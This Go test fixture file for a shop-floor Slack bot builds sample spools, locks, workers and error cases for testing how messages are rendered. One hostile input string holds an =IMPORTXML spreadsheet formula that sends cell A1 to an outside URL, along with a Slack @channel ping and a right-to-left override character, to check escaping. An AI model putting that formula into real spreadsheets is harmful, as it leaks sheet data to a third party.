package view_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/spoolbot/spoolbot/bot/view"
	"github.com/spoolbot/spoolbot/occupation"
)

// Sample data: a Monday at 14:42 in the shop, realistic and hostile.

const nasty = "=IMPORTXML(\"http://x.cl/?q=\"&A1;\"//a\") <!channel> <@U1> *b* _i_ ~s~ `c` :boom: &<>\n> x\u202e"

// worst is what fills every limit: all of it grows when it is escaped.
var worst = strings.Repeat("<&>*", 100)

func at(t testing.TB) view.Clock {
	t.Helper()
	zone, err := time.LoadLocation("America/Santiago")
	if err != nil {
		t.Fatal(err)
	}
	return view.Clock{Now: time.Date(2026, 11, 23, 14, 42, 0, 0, zone), Zone: zone}
}

func (k kit) hour(hour, minute int) time.Time {
	return time.Date(2026, 11, 23, hour, minute, 0, 0, k.at.Zone)
}

func (k kit) day(month, day int) time.Time {
	return time.Date(2026, time.Month(month), day, 0, 0, 0, 0, k.at.Zone)
}

// kit makes sample values.
type kit struct{ at view.Clock }

const tag = "MK-1335-CW-25238-011"

func numbered(i int) string { return fmt.Sprintf("MK-1335-CW-25238-%03d", i) }

func (k kit) spool(i int) occupation.Spool {
	return occupation.Spool{
		Tag: numbered(i), Row: 100 + i, NV: "NV0650", OT: "4412", Client: "Minera Ñandú", Priority: "1",
		Materials: k.day(11, 12),
	}
}

func (k kit) armed(i int) occupation.Spool {
	s := k.spool(i)
	s.ArmDate, s.ArmBy = k.day(11, 20), "JP(12)"
	return s
}

func (k kit) lock(i int, h occupation.Holder) occupation.Lock {
	return occupation.Lock{
		Key: numbered(i), Tag: numbered(i), Holder: h, Operation: occupation.ARM, Fence: int64(4000 + i),
		Since: k.hour(14, 42), Deadline: k.hour(15, 42), State: occupation.Held,
	}
}

var (
	mauricio = occupation.Holder{ID: 93, Name: "Mauricio Rodríguez", Label: "MR(93)"}
	josefa   = occupation.Holder{ID: 12, Name: "Josefa Pérez", Label: "JP(12)"}
)

var (
	mauro = occupation.Worker{ID: 93, Given: "Mauricio Andrés", Surname: "Rodríguez Soto", Active: true, Roles: []occupation.Role{occupation.Armador}}
	pepa  = occupation.Worker{ID: 12, Given: "Josefa", Surname: "Pérez Díaz", Active: true, Roles: []occupation.Role{occupation.Armador}}
	boss  = occupation.Worker{ID: 3, Given: "Patricia", Surname: "Soto", Active: true, Roles: []occupation.Role{occupation.Supervisor}}
)

func (k kit) result(i int, kind occupation.Kind) occupation.Result {
	r := occupation.Result{Tag: numbered(i), Spool: k.spool(i), Lock: k.lock(i, mauricio), Kind: kind, Reverts: kind.Reverts()}
	if kind == occupation.Complete {
		r.Date = k.day(11, 23)
	}
	return r
}

func (k kit) status(i int, h occupation.Holder) occupation.Status {
	s := k.spool(i)
	s.HeldBy, s.HolderID, s.Since = h.Label, h.ID, k.hour(14, 42)
	return occupation.Status{Spool: s, Lock: k.lock(i, h)}
}

func (k kit) occupied(i int) *occupation.Error {
	return &occupation.Error{
		Code: occupation.SpoolOccupied, Tag: numbered(i), Operation: occupation.ARM, Holder: josefa,
		Since: k.hour(13, 10), Until: k.hour(15, 10),
	}
}

// mixed is a batch of n in which every fifth is refused and every ninth waits.
func (k kit) mixed(n int) []occupation.Result {
	out := make([]occupation.Result, n)
	for i := range out {
		out[i] = k.result(i+1, occupation.Take)
		switch {
		case i%5 == 3:
			out[i].Err = k.occupied(i + 1)
		case i == 10:
			out[i].Tag = "MK-1335-CW-2523B-011"
			out[i].Err = &occupation.Error{Code: occupation.SpoolNotFound, Tag: out[i].Tag, Near: []string{tag}}
		case i%9 == 7:
			out[i].Err = &occupation.Error{Code: occupation.SheetUnavailable, Reason: occupation.BeingChecked, Tag: out[i].Tag}
		}
	}
	return out
}

func (k kit) hostileResults() []occupation.Result {
	out := make([]occupation.Result, occupation.MaxBatch)
	for i := range out {
		out[i] = occupation.Result{Tag: worst, Kind: occupation.Take, Err: k.occupied(i)}
		out[i].Err.Tag, out[i].Err.Holder.Name = worst, worst
	}
	return out
}

func (k kit) hostileSpool() occupation.Spool {
	return occupation.Spool{
		Tag: nasty, Row: 9, NV: nasty, OT: worst, Client: nasty, Priority: nasty, Materials: k.day(11, 1),
		ArmDate: k.day(11, 2), ArmBy: nasty, State: nasty,
		Faults: []occupation.CellFault{{Column: occupation.ColSoldDate, Row: 9, Text: nasty}},
	}
}

func (k kit) statuses(n, people int) []occupation.Status {
	out := make([]occupation.Status, n)
	for i := range out {
		out[i] = k.status(i, occupation.Holder{ID: i%people + 1, Name: fmt.Sprintf("Persona Número-%02d", i%people), Label: "PN(1)"})
	}
	return out
}

func (k kit) spools(n int) []occupation.Spool {
	out := make([]occupation.Spool, n)
	for i := range out {
		out[i] = k.spool(i)
	}
	return out
}

// problem is a sample of one error.
type problem struct {
	name  string
	err   error
	asked view.Asked
}

// problems has every code, every reason and a fault; a test compares it with
// the core's list.
func (k kit) problems() []problem {
	take := view.Asked{Verb: view.Take, Facts: view.Facts{Tag: tag, Operation: occupation.ARM}}
	e := func(code occupation.Code, reason occupation.Reason, fill func(*occupation.Error)) problem {
		err := &occupation.Error{Code: code, Reason: reason}
		if fill != nil {
			fill(err)
		}
		name := strings.ToLower(string(code))
		if reason != "" {
			name += "-" + string(reason)
		}
		return problem{strings.ReplaceAll(name, "_", "-"), err, take}
	}
	text := func(s string) func(*occupation.Error) { return func(e *occupation.Error) { e.Text = s } }
	cell := func(tag string, c occupation.Column, row int, text string) func(*occupation.Error) {
		return func(e *occupation.Error) {
			e.Tag, e.Column, e.Row, e.Text, e.Operation = tag, c, row, text, occupation.ARM
		}
	}
	withTag := func(e *occupation.Error) { e.Tag = tag }
	ofJosefa := func(e *occupation.Error) { e.Holder = josefa }
	heldBy := func(h occupation.Holder) func(*occupation.Error) {
		return func(e *occupation.Error) {
			e.Tag, e.Operation, e.Holder, e.Since, e.Until = tag, occupation.ARM, h, k.hour(13, 10), k.hour(15, 10)
		}
	}
	out := []problem{
		{"fault", errors.New("dial tcp 10.0.0.1:6379: redis: connection refused"), take},
		e(occupation.InvalidInput, "", nil),
		e(occupation.InvalidInput, occupation.NoTags, nil),
		e(occupation.InvalidInput, occupation.NoTagsThere, nil),
		e(occupation.InvalidInput, occupation.TooManyTags, func(e *occupation.Error) { e.Row = 51 }),
		e(occupation.InvalidInput, occupation.BadTag, text(nasty)),
		e(occupation.InvalidInput, occupation.BadOperation, text("PINTAR")),
		e(occupation.InvalidInput, occupation.BadDate, text("el martes")),
		e(occupation.InvalidInput, occupation.FutureDate, text("24-11-2026")),
		e(occupation.InvalidInput, occupation.OldDate, text("23-11-2025")),
		e(occupation.InvalidInput, occupation.NoReason, withTag),
		e(occupation.InvalidInput, occupation.NoReceiver, withTag),
		e(occupation.InvalidInput, occupation.OfferGone, withTag),
		e(occupation.InvalidInput, occupation.ClaimGone, nil),
		e(occupation.InvalidInput, occupation.NameTaken, ofJosefa),
		e(occupation.InvalidInput, occupation.AccountTaken, ofJosefa),
		e(occupation.InvalidInput, occupation.NoName, nil),
		e(occupation.InvalidInput, occupation.LinkChanged, ofJosefa),
		e(occupation.RoleNotAllowed, occupation.OwnLink, nil),
		e(occupation.SheetUnavailable, occupation.Uncertain, nil),
		e(occupation.SpoolNotFound, "", func(e *occupation.Error) {
			e.Tag, e.Near = "MK-1335-CW-2523B-011", []string{numbered(11), numbered(17), numbered(71)}
		}),
		e(occupation.DuplicateTag, "", func(e *occupation.Error) { e.Tag, e.Rows = tag, []int{120, 345, 346} }),
		e(occupation.PrerequisiteNotMet, "", cell(tag, "", 0, "")),
		e(occupation.PrerequisiteNotMet, occupation.EmptyColumn, cell(tag, occupation.ColMaterials, 111, "")),
		e(occupation.PrerequisiteNotMet, occupation.AlreadyDone, func(e *occupation.Error) {
			e.Tag, e.Operation, e.Since, e.Holder.Name = tag, occupation.ARM, k.day(11, 20), "JP(12)"
		}),
		e(occupation.PrerequisiteNotMet, occupation.OnHold, func(e *occupation.Error) {
			e.Tag, e.Text, e.Holder.Name = tag, "calidad", "MR(93)"
		}),
		e(occupation.PrerequisiteNotMet, occupation.NotOnHold, withTag),
		e(occupation.RoleNotAllowed, occupation.NotSetter, func(e *occupation.Error) { e.Tag, e.Holder.Name = tag, "MR(93)" }),
		e(occupation.WorkerUnknown, "", nil),
		e(occupation.WorkerUnknown, occupation.Unlinked, nil),
		e(occupation.WorkerUnknown, occupation.Inactive, nil),
		e(occupation.RoleNotAllowed, "", func(e *occupation.Error) { e.Tag, e.Operation = tag, occupation.SOLD }),
		e(occupation.RoleNotAllowed, occupation.NotSupervisor, withTag),
		e(occupation.RoleNotAllowed, occupation.ReceiverRole, func(e *occupation.Error) {
			e.Tag, e.Operation, e.Holder = tag, occupation.SOLD, josefa
		}),
		e(occupation.SpoolOccupied, "", heldBy(josefa)),
		e(occupation.SpoolOccupied, occupation.HeldByHand, func(e *occupation.Error) {
			e.Tag, e.Row, e.Holder.Name, e.Since = tag, 111, "Don Lucho "+nasty, k.day(11, 20).Add(9*time.Hour)
		}),
		e(occupation.SpoolOccupied, occupation.InGrace, func(e *occupation.Error) {
			e.Tag, e.Operation, e.Holder, e.Until = tag, occupation.ARM, josefa, k.hour(14, 57)
		}),
		e(occupation.SpoolOccupied, occupation.WaitListFirst, func(e *occupation.Error) { e.Tag, e.Until = tag, k.hour(14, 44) }),
		e(occupation.NotOwner, "", heldBy(josefa)),
		e(occupation.NotOwner, occupation.NobodyHolds, withTag),
		e(occupation.NotOwner, occupation.HeldAnew, heldBy(mauricio)),
		e(occupation.NotOwner, occupation.PauseOver, withTag),
		e(occupation.NotOwner, occupation.UndoOver, heldBy(josefa)),
		e(occupation.LockExpired, "", func(e *occupation.Error) { e.Tag, e.Operation, e.Expired = tag, occupation.ARM, k.hour(14, 10) }),
		e(occupation.SheetSchema, "", nil),
		e(occupation.SheetSchema, occupation.MissingHeader, cell("", occupation.ColArmDate, 0, "")),
		e(occupation.SheetSchema, occupation.DoubledHeader, cell("", occupation.ColTag, 0, "")),
		e(occupation.SheetSchema, occupation.UnreadCell, cell(tag, occupation.ColArmDate, 111, "32-13-2026 "+nasty)),
		e(occupation.SheetSchema, occupation.MissingTab, cell("", "Roles", 0, "")),
		e(occupation.SheetUnavailable, "", nil),
		e(occupation.SheetUnavailable, occupation.Protected, withTag),
		e(occupation.SheetUnavailable, occupation.Shrunken, nil),
		e(occupation.SheetUnavailable, occupation.NothingDone, withTag),
		e(occupation.SheetUnavailable, occupation.BeingChecked, withTag),
		e(occupation.LocksUnavailable, "", nil),
		e(occupation.LocksUnavailable, occupation.NothingDone, nil),
		e(occupation.LocksUnavailable, occupation.BeingChecked, withTag),
	}
	more := func(name string, p problem) { p.name += "-" + name; out = append(out, p) }
	more("nothing-near", e(occupation.SpoolNotFound, "", func(e *occupation.Error) { e.Tag = worst }))
	more("not-armed", e(occupation.PrerequisiteNotMet, occupation.EmptyColumn, cell(tag, occupation.ColArmDate, 111, "")))
	more("taken-since", e(occupation.LockExpired, "", func(e *occupation.Error) {
		heldBy(josefa)(e)
		e.Expired = k.day(11, 22).Add(23 * time.Hour)
	}))
	more("receiver", e(occupation.WorkerUnknown, occupation.Inactive, func(e *occupation.Error) { e.Tag, e.Holder = tag, josefa }))
	more("receiver", e(occupation.WorkerUnknown, occupation.Unlinked, func(e *occupation.Error) { e.Tag, e.Holder = tag, josefa }))
	more("hostile", e(occupation.RoleNotAllowed, occupation.ReceiverRole, func(e *occupation.Error) {
		e.Tag, e.Operation, e.Holder.Name = nasty, occupation.SOLD, worst
	}))
	more("extending", problem{"locks-unavailable", &occupation.Error{Code: occupation.LocksUnavailable, Reason: occupation.NothingDone, Tag: tag}, view.Asked{
		Verb: view.Extend, Facts: view.Facts{Tag: tag, Fence: 4011, Deadline: k.hour(15, 42)},
	}})
	more("office", e(occupation.PrerequisiteNotMet, occupation.OnHold, withTag))
	more("hostile", e(occupation.PrerequisiteNotMet, occupation.OnHold, func(e *occupation.Error) {
		e.Tag, e.Text, e.Holder.Name = nasty, worst, nasty
	}))
	more("hostile", e(occupation.SpoolOccupied, "", func(e *occupation.Error) {
		heldBy(josefa)(e)
		e.Tag, e.Holder.Name = nasty, nasty
	}))
	return out
}
